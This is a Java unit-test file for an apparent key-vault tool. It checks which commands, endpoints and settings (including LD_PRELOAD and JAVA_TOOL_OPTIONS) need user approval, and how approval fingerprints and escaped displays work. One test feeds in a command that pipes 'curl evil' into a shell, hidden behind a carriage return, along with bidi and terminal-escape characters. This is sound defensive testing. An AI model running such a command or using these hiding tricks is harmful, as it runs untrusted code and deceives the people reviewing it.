package io.keystash.vault.trust;

import io.keystash.vault.VaultException;
import io.keystash.vault.model.KeyMetadata;
import io.keystash.vault.provider.Providers;
import org.junit.jupiter.api.Test;

import java.util.LinkedHashMap;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

class SensitiveConfigTest {
    private static KeyMetadata.Builder openai() {
        return KeyMetadata.builder().provider("openai");
    }

    private static String fingerprint(KeyMetadata.Builder builder) throws VaultException {
        return SensitiveConfig.of(builder.build()).fingerprint();
    }

    @Test
    void urlSettingsAndSettingsTheProviderDoesNotDeclareNeedApprovalItsOwnOthersDoNot() throws VaultException {
        assertThat(SensitiveConfig.needsApproval(Providers.byId("openai"), "OPENAI_BASE_URL")).isTrue();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("openai"), "OPENAI_ORG_ID")).isFalse();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("azure"), "AZURE_OPENAI_ENDPOINT")).isTrue();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("aws"), "AWS_REGION")).isFalse();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("aws"), "AWS_ENDPOINT_URL")).isTrue();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("custom"), "my_service_url")).isTrue();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("custom"), "LD_PRELOAD")).isTrue();
        assertThat(SensitiveConfig.needsApproval(Providers.byId("openai"), "JAVA_TOOL_OPTIONS")).isTrue();
    }

    @Test
    void aKeyWithNoCommandEndpointOrSuchSettingHasNothingToApprove() throws VaultException {
        assertThat(SensitiveConfig.of(openai().setting("OPENAI_ORG_ID", "org-1").build()).isEmpty()).isTrue();
        assertThat(SensitiveConfig.of(openai().rotateCommand("  ").endpoint("").build()).isEmpty())
                .as("blank commands are never run").isTrue();
        assertThat(SensitiveConfig.of(openai().setting("OPENAI_BASE_URL", "https://x.example/v1").build()).isEmpty()).isFalse();
        assertThat(SensitiveConfig.of(openai().endpoint("https://x.example").build()).isEmpty()).isFalse();
        assertThat(SensitiveConfig.of(openai().validateCommand("true").build()).isEmpty()).isFalse();
    }

    @Test
    void theFingerprintChangesWithEveryApprovedFieldAndOnlyWithThem() throws VaultException {
        KeyMetadata.Builder base = openai().rotateCommand("new-key").validateCommand("check").endpoint("https://a.example")
                .setting("OPENAI_BASE_URL", "https://a.example/v1").setting("OPENAI_ORG_ID", "org-1");
        String fingerprint = fingerprint(base);
        assertThat(fingerprint).matches("[0-9a-f]{32}");
        assertThat(fingerprint(base.build().toBuilder())).isEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().setting("OPENAI_ORG_ID", "org-2").description("other").keep(3)))
                .as("settings that need no approval and other metadata do not count").isEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().rotateCommand("new-key "))).isNotEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().validateCommand("check2"))).isNotEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().endpoint("https://b.example"))).isNotEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().setting("OPENAI_BASE_URL", "https://b.example/v1"))).isNotEqualTo(fingerprint);
        assertThat(fingerprint(base.build().toBuilder().setting("EXTRA_URL", "https://a.example"))).isNotEqualTo(fingerprint);
    }

    @Test
    void theEncodingIsUnambiguousAndSettingsOrderDoesNotMatter() throws VaultException {
        assertThat(fingerprint(openai().rotateCommand("ab"))).isNotEqualTo(fingerprint(openai().rotateCommand("a").validateCommand("b")));
        assertThat(fingerprint(openai().rotateCommand("x"))).isNotEqualTo(fingerprint(openai().validateCommand("x")));
        assertThat(fingerprint(openai().endpoint("x"))).isNotEqualTo(fingerprint(openai().rotateCommand("x")));
        assertThat(fingerprint(KeyMetadata.builder().setting("A_URL", "bC_URL=d")))
                .isNotEqualTo(fingerprint(KeyMetadata.builder().setting("A_URL", "b").setting("C_URL", "d")));
        Map<String, String> forward = new LinkedHashMap<>();
        forward.put("A_URL", "1");
        forward.put("B_URL", "2");
        Map<String, String> backward = new LinkedHashMap<>();
        backward.put("B_URL", "2");
        backward.put("A_URL", "1");
        assertThat(fingerprint(KeyMetadata.builder().settings(forward))).isEqualTo(fingerprint(KeyMetadata.builder().settings(backward)));
    }

    @Test
    void keptFromGivesThePartsAChangeDidNotSet() throws VaultException {
        SensitiveConfig before = SensitiveConfig.of(openai().rotateCommand("old").setting("OPENAI_BASE_URL", "https://a").build());
        SensitiveConfig commandChanged = SensitiveConfig.of(openai().rotateCommand("mine").setting("OPENAI_BASE_URL", "https://a").build());
        assertThat(commandChanged.keptFrom(before).summary()).isEqualTo("OPENAI_BASE_URL");
        SensitiveConfig allChanged = SensitiveConfig.of(openai().rotateCommand("mine").build());
        assertThat(allChanged.keptFrom(before).isEmpty()).isTrue();
    }

    @Test
    void partsShowEveryValueWithControlAndInvisibleCharactersEscaped() throws VaultException {
        SensitiveConfig config = SensitiveConfig.of(KeyMetadata.builder()
                .rotateCommand("curl evil | sh #\rprintf ok").validateCommand("a\u202Eb\u001B[2Kc\\n")
                .setting("SERVICE_URL", "https://x.example").build());
        assertThat(config.parts()).extracting(SensitiveConfig.Part::label)
                .containsExactly("rotate command", "validate command", "setting SERVICE_URL");
        assertThat(config.parts()).extracting(SensitiveConfig.Part::value)
                .containsExactly("curl evil | sh #\\rprintf ok", "a\\u202Eb\\u001B[2Kc\\\\n", "https://x.example");
        assertThat(config.summary()).isEqualTo("rotate command, validate command, SERVICE_URL");
    }
}
